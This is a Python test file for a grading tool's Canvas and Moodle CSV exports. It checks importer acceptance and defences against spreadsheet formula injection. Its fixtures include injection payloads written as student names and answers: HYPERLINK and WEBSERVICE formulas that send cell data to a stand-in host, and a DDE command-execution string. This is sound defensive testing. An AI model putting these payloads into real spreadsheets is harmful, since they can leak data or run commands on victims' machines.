"""Every grade CSV the exports write is one Canvas's and Moodle's importers accept as meant.

The rules are those of the importers' source (``tests/grading/instructor_lms_rules.py`` cites the
files and functions). Issue 22: ``--missing mark`` wrote ``missing``, which Moodle's importer
refuses (the whole file: ``badgrade``) and Canvas reads as no score by accident; cells starting
with ``=``, ``+``, ``-``, ``@`` must not become spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from lrcourse.grading.csvsafe import read_cell, safe_cell
from lrcourse.grading.export import (
    ExportOptions,
    canvas_csv,
    export_all,
    moodle_csv,
    moodle_worksheet_csv,
    points_text,
)
from lrcourse.grading.gradebook import GradeRow
from lrcourse.grading.manifest import Manifest, RosterEntry
from lrcourse.grading.review import ReviewItem, read_sheet, write_sheet
from tests.grading.instructor_lms_rules import (
    canvas_import_problems,
    moodle_import_problems,
    moodle_worksheet_grades,
)

#: Names a class list may hold that a spreadsheet would run as formulas.
HOSTILE_NAMES = {
    "ann": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bob": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cy": "+1+1",
    "dee": "-2+3",
    "eve": "\t=1+1",
    "fay": "Zoë Ñúñez-García",
}


def _class(manifest: Manifest) -> Manifest:
    roster = [
        RosterEntry(id=student, name=name, canvas_id=str(1000 + n), moodle_id=str(50 + n))
        for n, (student, name) in enumerate(HOSTILE_NAMES.items())
    ]
    roster.append(RosterEntry(id="gus", name="Gus Absent", canvas_id="1999"))
    return manifest.model_copy(update={"roster": roster})


def _rows(manifest: Manifest) -> list[GradeRow]:
    rows = []
    for n, student in enumerate(HOSTILE_NAMES):
        for slot in manifest.slots:
            score = [1.0, 0.0, 0.5, 1 / 3, 0.25, 1.0][n]
            rows.append(GradeRow(student, slot.question_id, score, 1.0, "graded", "", "x", ""))
    return rows


@pytest.mark.parametrize("missing", ["zero", "mark"])
def test_canvas_and_moodle_csvs_pass_their_importers_rules(manifest, missing) -> None:
    manifest = _class(manifest)
    options = ExportOptions(missing=missing)
    canvas = canvas_csv(manifest, _rows(manifest), options)
    moodle = moodle_csv(manifest, _rows(manifest), options)
    assert canvas_import_problems(canvas, manifest.assignment) == []
    assert moodle_import_problems(moodle, "Username", manifest.assignment) == []
    canvas_rows = {r[2]: r for r in csv.reader(io.StringIO(canvas))}
    moodle_rows = {r[0]: r for r in csv.reader(io.StringIO(moodle))}
    # The student with no hand-in: 0, or each importer's own "no grade".
    assert canvas_rows["gus"][5] == ("0" if missing == "zero" else "")
    assert moodle_rows["gus"][1] == ("0" if missing == "zero" else "-")


def test_the_old_missing_word_is_what_the_rules_refuse(manifest) -> None:
    """The validators can fail: the text the old export wrote is refused by both."""
    moodle = "Username,hw-test,Maximum\nann,missing,3\n"
    assert "badgrade" in moodle_import_problems(moodle, "Username", "hw-test")[0]
    canvas = (
        "Student,ID,SIS User ID,SIS Login ID,Section,hw-test\n"
        "Points Possible,,,,,3\nAnn,1,ann,ann,,missing\n"
    )
    assert "no score" in canvas_import_problems(canvas, "hw-test")[0]
    assert (
        "gradevaluetoobig"
        in moodle_import_problems("Username,hw-test,Maximum\nann,120,120\n", "Username", "hw-test")[
            0
        ]
    )


def test_points_are_plain_decimals_never_exponents() -> None:
    assert [points_text(x) for x in (12345.678, 1 / 3, 2.0, 0.0, -0.0, 1e-9)] == [
        "12345.68",
        "0.33",
        "2",
        "0",
        "0",
        "0",
    ]


def test_names_that_look_like_formulas_are_written_as_text(manifest) -> None:
    manifest = _class(manifest)
    table = list(csv.reader(io.StringIO(canvas_csv(manifest, _rows(manifest)))))
    names = {row[2]: row[0] for row in table[2:]}
    for student, name in HOSTILE_NAMES.items():
        assert not names[student].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert read_cell(names[student]) == name


def test_plain_numbers_stay_numbers_and_text_round_trips() -> None:
    assert safe_cell("-0.5") == "-0.5" and safe_cell("+3") == "+3"
    for text in ("=1+1", "@x", "-x", "+x", "\tx", "\rx", "plain", ""):
        assert read_cell(safe_cell(text)) == text
        assert not safe_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_review_sheet_answers_are_text_and_comments_read_back(tmp_path: Path, manifest) -> None:
    qid = manifest.slots[0].question_id
    answer = '=WEBSERVICE("http://evil.example/"&A2)'
    sheet = tmp_path / "review.csv"
    write_sheet([ReviewItem("ann", qid, "needs-review", "@why", answer, 1.0)], sheet)
    rows = list(csv.DictReader(io.StringIO(sheet.read_text())))
    assert rows[0]["answer"] == "'" + answer and rows[0]["reason"] == "'@why"
    rows[0]["points"], rows[0]["comment"] = "1", "'=good"  # as a spreadsheet saves it
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    sheet.write_text(out.getvalue())
    [decision] = read_sheet(sheet, manifest)
    assert (decision.student, decision.points, decision.comment) == ("ann", 1.0, "=good")


def test_every_csv_export_file_has_no_formula_cell(tmp_path: Path, manifest, questions) -> None:
    manifest = _class(manifest)
    rows = [
        GradeRow(r.student, r.question_id, r.score, 1.0, "graded", "", r.answer, "", 0.9, "=late")
        for r in _rows(manifest)
    ]
    written = export_all(manifest, rows, questions, tmp_path, ExportOptions(missing="mark"))
    csvs = [path for path in written if path.suffix == ".csv"]
    assert {p.name for p in csvs} >= {"grades-canvas.csv", "grades-moodle.csv", "late.csv"}
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text())):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or cell == "-" or safe_cell(cell) == cell
    assert canvas_import_problems((tmp_path / "grades-canvas.csv").read_text(), "hw-test") == []
    moodle = (tmp_path / "grades-moodle.csv").read_text()
    assert moodle_import_problems(moodle, "Username", "hw-test") == []


@pytest.mark.parametrize("missing", ["zero", "mark"])
def test_the_moodle_worksheet_sets_each_participants_grade(manifest, missing) -> None:
    manifest = _class(manifest)
    text = moodle_worksheet_csv(manifest, _rows(manifest), ExportOptions(missing=missing))
    grades = moodle_worksheet_grades(text, manifest.possible())
    canvas = {r[2]: r[5] for r in csv.reader(io.StringIO(canvas_csv(manifest, _rows(manifest))))}
    expected = {
        entry.moodle_id: float(canvas[entry.id]) for entry in manifest.roster if entry.moodle_id
    }
    assert grades == expected  # gus has no Moodle id: not in the worksheet
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert not row[1].startswith(("=", "+", "@", "-", "\t"))  # names stay text
        assert "Q1 " in row[5]


def test_the_worksheet_rules_can_fail() -> None:
    with pytest.raises(ValueError, match="invalidgradeimport"):
        moodle_worksheet_grades("Identifier,Grade\nParticipant 1,3\n", 5)
    rows = "Identifier,Grade,Last modified (grade)\nParticipant 1,missing,2026-01-01 00:00:00 UTC\n"
    assert moodle_worksheet_grades(rows, 5) == {"1": None}
